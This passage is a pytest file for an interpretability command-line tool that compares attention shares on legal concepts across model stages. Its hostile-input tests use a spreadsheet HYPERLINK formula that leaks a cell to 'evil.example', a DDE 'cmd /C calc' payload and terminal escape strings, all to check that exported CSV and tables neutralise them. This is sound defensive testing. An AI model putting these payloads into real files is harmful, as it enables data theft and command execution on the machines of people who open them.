"""The command line: outputs, and one line with exit code 2 for every kind of bad input."""

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from scipy import stats

from interp.cli.main import main
from interp.concepts.alignment import format_marked_tokens
from interp.models.tiny import train_tokenizer
from tests.packaged_fixtures import REAL_TOKENIZERS

REPO = Path(__file__).resolve().parents[2]
PAPER = REPO.parent / "shared" / "reference" / "paper-shares"


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture()
def share_files(tmp_path):
    rng = np.random.default_rng(3)
    reference = rng.uniform(0.0, 0.5, size=(4, 8))
    other = reference + rng.normal(0.01, 0.02, size=(4, 8))
    np.save(tmp_path / "a.npy", reference)
    np.save(tmp_path / "b.npy", other)
    return tmp_path / "a.npy", tmp_path / "b.npy", other - reference


def test_stats_json_prints_the_six_statistics(capsys, share_files):
    a, b, shift = share_files
    code, out, _ = run(capsys, "stats", "--reference", str(a), "--other", str(b), "--format", "json")
    assert code == 0
    result = json.loads(out)
    assert list(result) == ["mean", "median", "frac_positive", "skewness", "kurtosis", "entropy"]
    assert all(isinstance(value, float) for value in result.values())
    assert result["mean"] == pytest.approx(shift.mean())
    assert result["skewness"] == pytest.approx(stats.skew(shift.ravel()))
    assert result["kurtosis"] == pytest.approx(stats.kurtosis(shift.ravel(), fisher=False))


def test_stats_table_lists_each_statistic(capsys, share_files):
    a, b, shift = share_files
    code, out, _ = run(capsys, "stats", "--reference", str(a), "--other", str(b), "--format", "table")
    assert code == 0
    table = dict(line.split() for line in out.strip().splitlines())
    assert float(table["median"]) == pytest.approx(np.median(shift), rel=1e-5)


@pytest.mark.skipif(not PAPER.is_dir(), reason="the shared reference data is not beside this checkout")
def test_stats_on_published_shares(capsys):
    base = PAPER / "facet-1_mistralaiMistral-7B-v0.1_proportions.npy"
    cpt = PAPER / "facet-1_EquallSaul-7B-Base_proportions.npy"
    code, out, _ = run(capsys, "stats", "--reference", str(base), "--other", str(cpt), "--format", "json")
    shift = np.load(cpt) - np.load(base)
    assert code == 0 and json.loads(out)["mean"] == pytest.approx(shift.mean())


def test_stats_bad_input_is_one_line_exit_2(capsys, share_files, tmp_path):
    a, _, _ = share_files
    np.save(tmp_path / "wide.npy", np.zeros((4, 9)))
    (tmp_path / "text.npy").write_text("not an array")
    for other, fragment in [
        (tmp_path / "absent.npy", "absent.npy"),
        (tmp_path / "text.npy", "text.npy"),
        (tmp_path / "wide.npy", "wide.npy: shape (4, 9) differs"),
    ]:
        code, out, err = run(capsys, "stats", "--reference", str(a), "--other", str(other))
        assert code == 2 and out == ""
        assert len(err.strip().splitlines()) == 1 and fragment in err and err.startswith("error: ")


def test_concepts_validate_good_and_bad(capsys, tmp_path):
    code, out, _ = run(capsys, "concepts", "validate", str(REPO / "concepts"))
    assert code == 0 and "set 'paper-types', 7 sequence(s)" in out
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "set: x\nsequences:\n  - id: a\n    concept: Role\n    text: The tenant.\n    spans:\n"
        "      - text: landlord\n      - text: tenant\n        occurrence: 2\n"
    )
    code, out, err = run(capsys, "concepts", "validate", str(bad))
    assert code == 2
    assert err.splitlines() == [
        f"error: {bad}: sequence 'a', span 1, field 'text': 'landlord' does not occur in the text",
        f"error: {bad}: sequence 'a', span 2, field 'occurrence': 2 asked, but 'tenant' occurs 1 time(s)",
    ]


def test_concepts_show_marks_the_concept_tokens(capsys, tmp_path):
    from interp.concepts.files import all_sequences, load_concepts

    sequences = all_sequences(load_concepts([REPO / "concepts"]))
    tokenizer = train_tokenizer([s.text for s in sequences] * 5, vocab_size=900)
    tokenizer.save_pretrained(tmp_path / "tok")
    code, out, _ = run(capsys, "concepts", "show", str(REPO / "concepts"), "--tokenizer", str(tmp_path / "tok"))
    assert code == 0
    blocks = out.split("\n")
    role_line = blocks[blocks.index(next(line for line in blocks if line.startswith("role (Role)"))) + 1]
    bracketed = [part.strip("[] ") for part in role_line.split("[")[1:]]
    assert "".join(bracketed[0].split("]")[0].split()).replace("␣", " ").strip() == "the outgoing holder"
    assert "▁" not in out, "tokens are shown as text, a leading space as ␣"
    assert out.count("span ") >= sum(len(s.spans) for s in sequences)


@pytest.mark.parametrize("name", REAL_TOKENIZERS)
def test_concepts_show_reads_the_tokens_of_every_family(capsys, real_tokenizer_folders, name, offline):
    code, out, _ = run(capsys, "concepts", "show", str(REPO / "concepts" / "paper-types.yaml"),
                       "--tokenizer", str(real_tokenizer_folders[name]))
    assert code == 0 and "␣shall" in out and "[␣" in out
    assert not any(marker in out for marker in ("▁", "Ġ", "Ċ", "âĢ", "Â", "<0x"))


def test_fetch_prints_the_converted_folder(capsys, real_tokenizer_folders, offline):
    folder = real_tokenizer_folders["smollm2-tokenizer"]
    code, out, _ = run(capsys, "fetch", "smollm2-tokenizer", "--out", str(folder.parent))
    assert code == 0 and out.strip() == str(folder)
    with pytest.raises(SystemExit):
        main(["fetch", "smollm2-tokenizer", "gpt-5"])
    assert "invalid choice: 'gpt-5'" in capsys.readouterr().err


def test_concepts_show_missing_tokenizer(capsys, tmp_path):
    code, _, err = run(capsys, "concepts", "show", str(REPO / "concepts"), "--tokenizer", str(tmp_path / "none"))
    assert code == 2 and err.count("\n") == 1 and "cannot be loaded" in err


def test_names_written_out_in_the_cli_are_the_registries():
    from interp.cli.main import PACKAGED_NAMES, PAPER_WIDTHS, STYLES
    from interp.export.styles import STYLES as STYLE_REGISTRY
    from interp.models.packaged import PACKAGED

    assert PACKAGED_NAMES == tuple(PACKAGED)
    assert STYLES == tuple(STYLE_REGISTRY) and PAPER_WIDTHS == STYLE_REGISTRY["paper"].widths


def test_first_position_choices_are_the_rules_of_alignment():
    from interp.analysis.exclusions import FIRST_POSITION_RULES
    from interp.cli.main import FIRST_POSITIONS

    assert FIRST_POSITIONS == tuple(FIRST_POSITION_RULES)


def test_bounds_written_out_in_the_help_are_the_code_s(capsys):
    from interp.analysis.results import MAX_CONTROLS, MAX_SEED
    from interp.store.shards import MAX_SHARDS

    helps = {}
    for command in ("report", "extract"):
        with pytest.raises(SystemExit):
            main([command, "--help"])
        helps[command] = " ".join(capsys.readouterr().out.split())
    assert f"at most {MAX_CONTROLS:,})" in helps["report"] and MAX_SEED == 2**32 - 1 and "0 to 2**32 - 1" in helps["report"]
    assert f"(N at most {MAX_SHARDS:,}, and at most the number of sequences)" in helps["extract"]


def test_format_marked_tokens_brackets_runs():
    assert format_marked_tokens(["<s>", "a", "b", "c", "d"], [False, True, True, False, True]) == "<s> [a b] c [d]"


def test_module_entry_point_has_no_traceback(tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "interp", "concepts", "validate", str(tmp_path / "missing.yaml")],
        capture_output=True, text=True, cwd=REPO, timeout=120,
    )
    assert result.returncode == 2
    assert result.stderr.strip() == f"error: {tmp_path / 'missing.yaml'}: no such file"


@pytest.mark.slow
def test_demo_build_reports_losses_and_the_notice(capsys, micro_demo, monkeypatch):
    monkeypatch.setenv("INTERP_DEMO_DIR", str(micro_demo))
    assert main(["demo", "build"]) == 0
    out, err = capsys.readouterr()
    assert "not evidence about real legal models" in err
    manifest = json.loads((micro_demo / "demo.json").read_text())
    rows = {line.split()[0]: line.split()[1:] for line in out.splitlines()[3:]}
    assert set(rows) == {"base", "cpt", "ift"}
    assert float(rows["cpt"][1]) == pytest.approx(manifest["losses"]["cpt"]["legal"], abs=1e-3)


def test_help_and_light_commands_import_no_torch(tmp_path):
    """`--help`, `concepts validate`, `stats` and `report` need neither torch nor transformers."""
    script = (
        "import sys, contextlib, io\n"
        "from interp.cli.main import main\n"
        "with contextlib.redirect_stdout(io.StringIO()):\n"
        "    try:\n"
        "        main(['--help'])\n"
        "    except SystemExit:\n"
        "        pass\n"
        f"    main(['concepts', 'validate', {str(REPO / 'concepts')!r}])\n"
        f"    main(['report', {str(tmp_path / 'none')!r}])\n"
        "heavy = sorted(m for m in ('torch', 'transformers', 'transformer_lens') if m in sys.modules)\n"
        "print(heavy)\n"
    )
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=REPO, timeout=120)
    assert result.stdout.strip().splitlines()[-1] == "[]", result.stderr


@pytest.mark.slow
def test_cli_report_and_shares(tiny_run, capsys):
    from interp.analysis.results import Results, Selection
    from interp.analysis.tables import REPORT_COLUMNS, shares_table

    out = str(tiny_run[0])
    assert main(["report", out, "--format", "json", "--controls", "20"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert len(rows) == 4 and all(list(row) == list(REPORT_COLUMNS) for row in rows)
    assert main(["shares", out, "--format", "csv"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert list(table[0]) == ["sequence_id", "concept", "stage", "layer", "head", "share", "first_token_share"]
    assert len(table) == 2 * 3 * 2 * 4
    assert float(table[5]["share"]) == pytest.approx(shares_table(Results(out))["share"][5])
    assert main(["shares", out, "--first-position", "none", "--exclude", "none"]) == 0
    unfiltered = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    expected = shares_table(Results(out, Selection(exclusions="none", first_position="none")))["share"][5]
    assert float(unfiltered[5]["share"]) == pytest.approx(expected) and expected != pytest.approx(float(table[5]["share"]))
    assert [row["first_token_share"] for row in unfiltered] == [row["first_token_share"] for row in table]
    with pytest.raises(SystemExit):
        main(["report", out, "--first-position", "sink"])
    assert "invalid choice: 'sink'" in capsys.readouterr().err
    assert main(["report", out, "--format", "table", "--controls", "0"]) == 0
    assert "lessee-1" in capsys.readouterr().out
    assert main(["report", out, "--exclude", " , "]) == 2
    assert "custom exclusions: list at least one token" in capsys.readouterr().err


@pytest.mark.slow
def test_cli_extract_runs_offline_with_progress(tmp_path, tiny_lineage, capsys, monkeypatch):
    from tests.conftest import TINY_SEQUENCES

    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    lineage_file = tmp_path / "lineage.yaml"
    lineage_file.write_text("name: tiny\nstages:\n" + "".join(
        f"  - {{label: {s.label}, model: '{s.model}'}}\n" for s in tiny_lineage.stages))
    concepts = tmp_path / "c.json"
    concepts.write_text(json.dumps({"set": "t", "sequences": [
        {"id": s.id, "concept": s.concept, "text": s.text, "spans": [{"text": sp.text} for sp in s.spans]}
        for s in TINY_SEQUENCES]}))
    out = tmp_path / "x"
    argv = ["extract", "--lineage", str(lineage_file), "--concepts", str(concepts), "--out", str(out), "--device", "cpu"]
    assert main(argv) == 0
    first = capsys.readouterr()
    assert "stage 'ift': 0 cached, 2 to run" in first.err and "0 stage(s) entirely from cache" in first.out
    assert main(argv) == 0
    assert "3 stage(s) entirely from cache" in capsys.readouterr().out


@pytest.mark.slow
def test_damaged_store_is_one_line(tiny_run, tmp_path, capsys):
    import shutil

    copy = tmp_path / "copy"
    shutil.copytree(tiny_run[0], copy)
    (copy / "entries" / "ift" / "seller-1.colsums.npy").unlink()
    assert main(["report", str(copy)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "stage 'ift' lacks 1 sequence(s) (first: 'seller-1')" in err
    assert main(["report", str(tmp_path / "nowhere")]) == 2
    assert "no such results folder" in capsys.readouterr().err


@pytest.mark.slow
def test_cli_export_bundle_holds_manifest_figures_and_tables(tiny_run, tmp_path, capsys):
    import zipfile

    out = tmp_path / "bundle.zip"
    assert main(["export", str(tiny_run[0]), "--out", str(out), "--controls", "20"]) == 0
    printed, progress = capsys.readouterr()
    with zipfile.ZipFile(out) as bundle:
        names = set(bundle.namelist())
        manifest = json.loads(bundle.read("manifest.json"))
    html = sorted(name for name in names if name.endswith(".html"))
    csvs = sorted(name for name in names if name.endswith(".csv"))
    assert printed.strip().endswith(f"{len(html)} figures, {len(csvs)} tables")
    assert manifest["lineage"] == "tiny" and manifest["analysis"] == {
        "exclusions": "paper", "reference": "base", "controls": 20, "seed": 0, "first_position": "bos", "measure": "attention"}
    assert manifest["figures"] == {"style": {"name": "screen", "png_scale": 2}, "image_formats": ["png", "svg", "pdf"]}
    for page in html:  # every figure in every format, PDF included
        assert {page.replace(".html", f".{fmt}") for fmt in ("png", "svg", "pdf")} <= names
    # Progress on stderr, per view and per figure and format, ending complete.
    from interp.analysis.results import Results, Selection
    from interp.views import count_bundle_steps

    steps = count_bundle_steps(Results(tiny_run[0], Selection(n_controls=20)))
    assert "views: 100%" in progress and f"{steps}/{steps}" in progress
    assert "images: 100%" in progress and f"{3 * len(html)}/{3 * len(html)}" in progress
    for table in ("overview-statistics", "overview-mean-share", "layers-profiles", "overview-shares"):
        assert {f"tables/{table}.csv", f"tables/{table}.json"} <= names
    assert "figures/overview-shifts.html" in names and "figures/heads-shift-seller-1-ift-vs-base.html" in names
    assert any(name.startswith("figures/structure-") and name.endswith("-seller-1.html") for name in names)
    assert any(name.startswith("figures/tokens-map-lessee-1-cpt-L") for name in names)
    assert main(["export", str(tiny_run[0]), "--out", str(tmp_path / "bundle.tar")]) == 2


@pytest.mark.slow
def test_a_partial_run_is_refused_unless_asked_for_and_then_flagged(tiny_run, tmp_path, capsys):
    import shutil

    copy = tmp_path / "copy"
    shutil.copytree(tiny_run[0], copy)
    document = json.loads((copy / "manifest.json").read_text())
    document["stages"], document["complete"] = document["stages"][:2], False
    (copy / "manifest.json").write_text(json.dumps(document))
    assert main(["report", str(copy), "--format", "json"]) == 2
    assert "stage 'ift' lacks 2 sequence(s)" in capsys.readouterr().err
    assert main(["report", str(copy), "--format", "json", "--partial", "--controls", "0"]) == 0
    out, err = capsys.readouterr()
    assert {row["stage"] for row in json.loads(out)} == {"cpt"}
    assert err.startswith("warning: partial results: stage 'ift' lacks 2 sequence(s)")
    assert main(["export", str(copy), "--out", str(tmp_path / "b.zip"), "--partial", "--controls", "0"]) == 0
    import zipfile

    with zipfile.ZipFile(tmp_path / "b.zip") as bundle:
        assert "ift" in json.loads(bundle.read("manifest.json"))["partial"]


# ---------------------------------------------------------------- hostile input and inert output

@pytest.mark.parametrize(("name", "data", "fragment"), [case[1:] for case in __import__("tests.hostile").hostile.CASES],
                         ids=[case[0] for case in __import__("tests.hostile").hostile.CASES])
def test_validate_refuses_each_hostile_file_in_one_line_per_problem(capsys, tmp_path, name, data, fragment):
    path = tmp_path / name
    path.write_bytes(data)
    code, out, err = run(capsys, "concepts", "validate", str(path))
    assert code == 2 and out == ""
    lines = err.splitlines()
    assert lines and all(line.startswith(f"error: {path}: ") for line in lines), lines
    assert fragment in lines[0]


@pytest.mark.parametrize("suffix", [".yaml", ".json"])
def test_ten_thousand_levels_of_nesting_are_one_line_from_the_command(tmp_path, suffix):
    path = tmp_path / f"deep{suffix}"
    path.write_bytes(b"[" * 10_000 + b"]" * 10_000)
    result = subprocess.run([sys.executable, "-m", "interp", "concepts", "validate", str(path)],
                            capture_output=True, text=True, cwd=REPO, timeout=120)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.splitlines() == [f"error: {path}: line 1: nested more than 32 levels deep; concept and lineage files need four"]
    lineage = tmp_path / "deep-lineage.yaml"
    lineage.write_bytes(b"- " * 10_000 + b"x\n")
    result = subprocess.run([sys.executable, "-m", "interp", "extract", "--lineage", str(lineage), "--concepts",
                             str(REPO / "concepts"), "--out", str(tmp_path / "out")],
                            capture_output=True, text=True, cwd=REPO, timeout=120)
    assert result.returncode == 2 and result.stderr.splitlines() == [
        f"error: {lineage}: line 1: nested more than 32 levels deep; concept and lineage files need four"]


def test_validate_applies_the_limits_on_spans_and_text(capsys, tmp_path, monkeypatch):
    path = tmp_path / "many.json"
    path.write_text(json.dumps({"set": "t", "sequences": [{"id": "m", "concept": "Role", "text": "holder " * 30,
                                                           "spans": [{"text": "holder", "occurrence": k} for k in range(1, 31)]}]}))
    code, out, _ = run(capsys, "concepts", "validate", str(path))
    assert code == 0 and "1 sequence(s)" in out
    monkeypatch.setenv("INTERP_MAX_SPANS", "29")
    code, out, err = run(capsys, "concepts", "validate", str(path))
    assert code == 2 and out == "" and err == (f"error: {path}: sequence 'm', field 'spans': 30 spans; at most 29 per "
                                               "sequence (INTERP_MAX_SPANS sets the limit)\n")
    monkeypatch.setenv("INTERP_MAX_SPANS", "many")
    monkeypatch.setenv("INTERP_MAX_TEXT_CHARS", "100")
    code, out, err = run(capsys, "concepts", "validate", str(path))
    assert code == 2 and err == "error: INTERP_MAX_SPANS='many': give a whole number of at least 1\n"
    monkeypatch.setenv("INTERP_MAX_SPANS", "30")
    code, out, err = run(capsys, "concepts", "validate", str(path))
    assert code == 2 and err == (f"error: {path}: sequence 'm', field 'text': 210 characters; at most 100 per text "
                                 "(INTERP_MAX_TEXT_CHARS sets the limit)\n")


@pytest.mark.slow
def test_a_ten_megabyte_line_is_refused_when_read_in_memory_proportional_to_it(capsys, tmp_path, tiny_lineage):
    """`concepts validate` of a one-line 10 MB `.jsonl` peaked at 1.3 GB (a backtracking pattern),
    and `extract` refused its text only after tokenizing it (38 s, 3 GB): both now refuse it at
    the text limit, in a few times the file's size."""
    import tracemalloc

    lineage_file, _ = write_inputs(tmp_path, tiny_lineage, [])
    path = tmp_path / "line.jsonl"
    path.write_text(json.dumps({"id": "l", "concept": "Role", "text": "holder " * (10 * 2**20 // 7),
                                "spans": [{"text": "holder"}]}) + "\n")
    expected = (f"error: {path}: line 1, sequence 'l', field 'text': 10,485,755 characters; at most 500,000 per text "
                "(INTERP_MAX_TEXT_CHARS sets the limit)\n")
    for argv in (["concepts", "validate", str(path)],
                 ["extract", "--lineage", str(lineage_file), "--concepts", str(path), "--out", str(tmp_path / "o")]):
        tracemalloc.start()
        try:
            code, out, err = run(capsys, *argv)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert code == 2 and err == expected and peak < 8 * path.stat().st_size, (argv[0], peak)
    assert not (tmp_path / "o").exists()


def test_validate_says_when_text_was_normalised(capsys, tmp_path):
    import unicodedata

    path = tmp_path / "nfd.yaml"
    text = unicodedata.normalize("NFD", "La créance échue est exigible.")
    path.write_text(json.dumps({"set": "t", "sequences": [{"id": "c", "concept": "Condition", "text": text,
                                                           "spans": [{"text": "créance échue"}]}]}), "utf-8")
    code, out, _ = run(capsys, "concepts", "validate", str(path))
    assert code == 0 and out == f"{path}: ok, set 't', 1 sequence(s) (1 normalised to Unicode NFC)\n"


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory, tiny_checkpoint, tiny_checkpoint_other):
    """Stages `x` and `y-x`, sequences `s` and `s-y` (so `s` + `y-x` and `s-y` + `x` name the same
    file), concepts that a spreadsheet would run."""
    from interp.extraction.pipeline import extract_lineage
    from interp.extraction.settings import ExtractionSettings
    from interp.models.lineage import Lineage, Stage
    from tests.conftest import concept

    lineage = Lineage("hostile", (Stage("x", str(tiny_checkpoint)), Stage("y-x", str(tiny_checkpoint_other))))
    sequences = [
        concept("s", "The lessee shall pay the rent within thirty days, unless the court orders otherwise.",
                "within thirty days", concept_type=HYPERLINK),
        concept("s-y", "The seller may not sell the goods before the hearing.", "may not sell the goods",
                concept_type="@SUM(1+1)*cmd|' /C calc'!A0"),
    ]
    out = tmp_path_factory.mktemp("hostile") / "run"
    extract_lineage(lineage, sequences, out, ExtractionSettings(device="cpu"))
    return out


@pytest.mark.slow
def test_report_and_shares_csv_neutralise_formula_concepts(hostile_run, capsys):
    assert main(["report", str(hostile_run), "--format", "csv", "--controls", "0"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["concept"] for row in rows] == ["'" + HYPERLINK, "'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert float(rows[0]["mean_share"]) > 0
    assert main(["shares", str(hostile_run)]) == 0
    shares = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {row["concept"][0] for row in shares} == {"'"}
    assert main(["report", str(hostile_run), "--format", "json", "--controls", "0"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["concept"] == HYPERLINK, "JSON keeps the text as it is"


@pytest.mark.slow
def test_report_table_prints_no_control_or_bidi_characters(tiny_run, capsys, monkeypatch):
    import pandas as pd

    from interp.core.safe_output import CONTROL_CHARACTERS

    hostile = pd.DataFrame({"sequence_id": ["a"], "concept": ["\x1b[2J\x1b[31mRole\u202eevil"], "mean": [0.5]})
    monkeypatch.setattr("interp.analysis.tables.report_table", lambda results: hostile)
    assert main(["report", str(tiny_run[0]), "--format", "table"]) == 0
    out = capsys.readouterr().out
    assert "[2J[31mRoleevil" in out
    assert not any(CONTROL_CHARACTERS.search(line) for line in out.splitlines())


@pytest.mark.slow
def test_export_keeps_every_figure_when_names_collide_and_prints_what_it_wrote(hostile_run, tmp_path, capsys,
                                                                               no_chromium_here):
    import zipfile

    from interp.analysis.results import Results, Selection
    from interp.views import bundle_contents

    out = tmp_path / "bundle.zip"
    assert main(["export", str(hostile_run), "--out", str(out), "--controls", "10"]) == 0
    printed = capsys.readouterr().out.strip()
    with zipfile.ZipFile(out) as bundle:
        names = bundle.namelist()
        stats = bundle.read("tables/overview-statistics.csv").decode()
    figures = [n for n in names if n.startswith("figures/") and n.endswith(".html")]
    tables = [n for n in names if n.startswith("tables/") and n.endswith(".csv")]
    expected_figures, expected_tables = bundle_contents(Results(hostile_run, Selection(n_controls=10)))
    assert printed == f"{out}: {len(figures)} figures, {len(tables)} tables"
    assert (len(figures), len(tables)) == (len(expected_figures), len(expected_tables))
    assert len({n.lower() for n in names}) == len(names)
    # (s, y-x) and (s-y, x) both name "heads-share-s-y-x-vs-x": the second is kept beside the first.
    assert {"figures/heads-share-s-y-x-vs-x.html", "figures/heads-share-s-y-x-vs-x-2.html"} <= set(names)
    assert "'=HYPERLINK" in stats and "\n=HYPERLINK" not in stats and ",=HYPERLINK" not in stats


@pytest.mark.slow
def test_export_paper_pdfs_only(tiny_run, tmp_path, capsys):
    import zipfile

    out = tmp_path / "paper.zip"
    assert main(["export", str(tiny_run[0]), "--out", str(out), "--controls", "0", "--style", "paper",
                 "--width", "page", "--images", "pdf"]) == 0
    with zipfile.ZipFile(out) as bundle:
        names = set(bundle.namelist())
        manifest = json.loads(bundle.read("manifest.json"))
        pdf = bundle.read("figures/overview-shifts.pdf")
        caption = bundle.read("figures/overview-shifts.txt").decode()
    assert manifest["figures"]["style"]["name"] == "paper" and manifest["figures"]["style"]["width"] == "page"
    assert manifest["figures"]["image_formats"] == ["pdf"]
    assert not any(name.endswith((".png", ".svg")) for name in names)
    assert b"/MediaBox [0 0 504 " in pdf and b"/FontFile2" in pdf
    assert caption == "Mean shift of the concept share against base, per sequence\n"
    assert "images: 100%" in capsys.readouterr().err


def test_export_options_are_checked_in_one_line(tiny_run, tmp_path, capsys):
    for options, message in ((["--width", "page"], "style 'screen' keeps each figure's own width"),
                             (["--images", "png,gif"], "image formats must be among png, svg, pdf, got ['gif']")):
        assert main(["export", str(tiny_run[0]), "--out", str(tmp_path / "b.zip"), "--controls", "0", *options]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and message in err, err
    assert list(tmp_path.iterdir()) == []


def test_export_checks_its_output_before_any_work(tiny_run, tmp_path, capsys, monkeypatch):
    import interp.analysis.results

    def never(*args, **kwargs):
        raise AssertionError("the results were opened before the output path was checked")

    monkeypatch.setattr(interp.analysis.results, "Results", never)
    (tmp_path / "folder.zip").mkdir()
    cases = [
        (["--out", str(tmp_path / "folder.zip")], f"error: --out {tmp_path / 'folder.zip'}: is a folder; name a file"),
        (["--out", str(tmp_path / ("a" * 246 + ".zip"))], "the name is 250 bytes long; at most 241 here (its temporary "
                                                         "name needs 14 more)"),
        (["--out", str(tmp_path / ("b" * 296 + ".zip"))], "the name is 300 bytes long; at most 241 here"),
        (["--out", str(tmp_path / "missing" / "deeper" / "x.zip"), "--images", ",,,"],
         "error: --images ',,,': list png, svg, pdf separated by commas, with none empty, or give none"),
        (["--out", str(tmp_path / "x.zip"), "--images", ""], "error: --images '': list png, svg, pdf"),
        (["--out", str(tmp_path / "x.zip"), "--images", "png,,svg"], "error: --images 'png,,svg': list png, svg, pdf"),
    ]
    for options, message in cases:
        assert main(["export", str(tiny_run[0]), *options]) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and message in err, err
    assert [p.name for p in tmp_path.iterdir()] == ["folder.zip"]


def test_analysis_options_out_of_bounds_are_one_line(tiny_run, capsys):
    folder = str(tiny_run[0])
    cases = [
        (["--controls", "-1"], "error: --controls -1: control spans per sequence lie between 0 (none) and 10,000\n"),
        (["--controls", "1000000000"], "error: --controls 1000000000: control spans per sequence lie between 0 (none) "
                                       "and 10,000\n"),
        (["--seed", "-1"], "error: --seed -1: a seed lies between 0 and 4,294,967,295 (2**32 - 1)\n"),
        (["--seed", str(2**32)], "error: --seed 4294967296: a seed lies between 0 and 4,294,967,295 (2**32 - 1)\n"),
        (["--exclude", "Punctuation"], "error: --exclude 'Punctuation': 'Punctuation' is the name of the preset "
                                       "'punctuation', which is given alone (--exclude punctuation); as a token in a "
                                       "list it would exclude nothing\n"),
        (["--exclude", "paper,punctuation"], "error: --exclude 'paper,punctuation': 'paper' is the name of the preset "
                                             "'paper'"),
        (["--exclude", "▁the, NONE"], "error: --exclude '▁the,NONE': 'NONE' is the name of the preset 'none'"),
    ]
    for command in ("report", "shares", "export"):
        for options, message in cases:
            if command == "shares" and options[0] != "--exclude":
                continue
            extra = ["--out", "x.zip"] if command == "export" else []
            assert main([command, folder, *options, *extra]) == 2, (command, options)
            err = capsys.readouterr().err
            assert err.startswith(message) and err.count("\n") == 1, err
    assert main(["report", folder, "--controls", "10000", "--format", "csv"]) == 0
    assert main(["report", folder, "--seed", str(2**32 - 1), "--controls", "3", "--exclude", "▁the,paperwork"]) == 0


def test_a_concept_left_without_tokens_is_named_by_its_sequence(tiny_run, tmp_path, capsys):
    import shutil

    copy = shutil.copytree(tiny_run[0], tmp_path / "copy")
    for record in copy.glob("entries/*/seller-1.json"):
        document = json.loads(record.read_text())
        document.update(has_bos=False, span_tokens=[[0]])  # as on a model without BOS, a span of token 0 alone
        record.write_text(json.dumps(document))
    assert main(["report", str(copy), "--first-position", "first", "--controls", "0"]) == 2
    assert capsys.readouterr().err == ("error: sequence 'seller-1', stage 'cpt': the concept has no tokens left once "
                                       "the excluded tokens are removed (exclusions 'paper', first position 'first')\n")
    assert main(["report", str(copy), "--first-position", "none", "--exclude", "none", "--controls", "0"]) == 0


@pytest.fixture()
def no_chromium_here(monkeypatch):
    """Export without images: fast, and the same on every machine."""
    import interp.export.bundle as export

    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    monkeypatch.setattr(export, "_shared", export.FigureExporter())


def test_concepts_generate_writes_a_dataset_that_validates(tmp_path, capsys):
    out = tmp_path / "data.jsonl"
    code, printed, _ = run(capsys, "concepts", "generate", "--per-type", "4", "--seed", "2", "--out", str(out))
    assert code == 0 and printed.strip() == f"{out}: 28 sequences, 4 of each of 7 concept types (seed 2)"
    code, printed, _ = run(capsys, "concepts", "validate", str(out))
    assert code == 0 and "28 sequence(s)" in printed
    code, _, err = run(capsys, "concepts", "generate", "--out", str(tmp_path / "data.yaml"))
    assert code == 2 and "name it *.jsonl" in err


@pytest.mark.parametrize("per_type", ["8001", "20000", "10000000"])
def test_concepts_generate_refuses_at_once_what_validate_would_refuse(tmp_path, capsys, per_type):
    """20,000 per type wrote 96 MB that `concepts validate` refused; 10,000,000 grew to a
    MemoryError after 65 s. Both are one line and exit 2 before anything is generated."""
    import time

    from interp.demo.dataset import MAX_PER_TYPE

    out = tmp_path / "data.jsonl"
    began = time.perf_counter()
    code, printed, err = run(capsys, "concepts", "generate", "--per-type", per_type, "--out", str(out))
    assert time.perf_counter() - began < 1 and code == 2 and printed == "" and not out.exists()
    assert err == (f"error: --per-type {per_type}: give at most {MAX_PER_TYPE:,} sequences per concept type; "
                   "7 × 8,000 fill the 64 MB that `concepts validate` reads from a JSON Lines file\n")
    help_text = subprocess.run([sys.executable, "-m", "interp", "concepts", "generate", "--help"], cwd=REPO,
                               capture_output=True, text=True, timeout=60).stdout
    assert f"at most {MAX_PER_TYPE:,}:" in " ".join(help_text.split())


@pytest.mark.slow
def test_report_by_concept_type(tiny_run, capsys):
    from interp.analysis.concept_types import CONCEPT_TYPE_COLUMNS

    assert main(["report", str(tiny_run[0]), "--by", "concept", "--format", "json", "--controls", "10"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [(row["concept"], row["stage"]) for row in rows] == [("Condition", "cpt"), ("Condition", "ift")]
    assert list(rows[0]) == list(CONCEPT_TYPE_COLUMNS) and rows[0]["sequences"] == 2
    assert main(["report", str(tiny_run[0]), "--by", "concept", "--measure", "weighted", "--controls", "0"]) == 0
    assert "weighted" in capsys.readouterr().out


def write_inputs(tmp_path, tiny_lineage, sequences):
    """A lineage file and a concept file for `extract`, from the tiny lineage and sequences."""
    lineage_file = tmp_path / "lineage.yaml"
    lineage_file.write_text("name: tiny\nreference: base\nstages:\n" + "".join(
        f"  - {{label: {s.label}, model: '{s.model}'}}\n" for s in tiny_lineage.stages))
    concepts = tmp_path / "c.json"
    concepts.write_text(json.dumps({"set": "t", "sequences": [
        {"id": s.id, "concept": s.concept, "text": s.text, "spans": [{"text": sp.text} for sp in s.spans]}
        for s in sequences]}))
    return str(lineage_file), str(concepts)


@pytest.mark.slow
def test_cli_shards_and_merge_report_like_the_plain_run(tiny_run, tiny_lineage, tmp_path, capsys, monkeypatch):
    from tests.conftest import TINY_SEQUENCES

    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    lineage, concepts = write_inputs(tmp_path, tiny_lineage, TINY_SEQUENCES)
    for index in (1, 2):
        argv = ["extract", "--lineage", lineage, "--concepts", concepts, "--out", str(tmp_path / f"s{index}"),
                "--device", "cpu", "--shard", f"{index}/2"]
